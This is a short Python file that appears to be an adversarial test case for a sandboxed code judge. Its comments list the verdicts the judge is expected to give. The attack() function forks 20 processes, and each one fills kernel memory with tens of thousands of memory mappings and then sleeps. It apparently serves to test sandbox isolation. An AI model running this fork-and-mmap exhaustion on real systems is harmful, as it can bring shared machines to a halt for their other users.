"""Takes memory of the kernel: as many mappings as there can be, in many processes."""
#: verdict = ["runtime_error", "time_limit_exceeded", "memory_limit_exceeded", "wrong_answer"]
#: cpu = 3
import mmap
import os
import time

def attack(number):
    if number in (11, 12, 13):
        return "once is enough"
    for _ in range(20):
        if os.fork() == 0:
            hoard = []
            try:
                for count in range(60_000):
                    hoard.append(mmap.mmap(-1, 4096, prot=1 + count % 2 * 2))
            except OSError:
                pass
            time.sleep(1000)
    time.sleep(0.2)
    return "mapped"
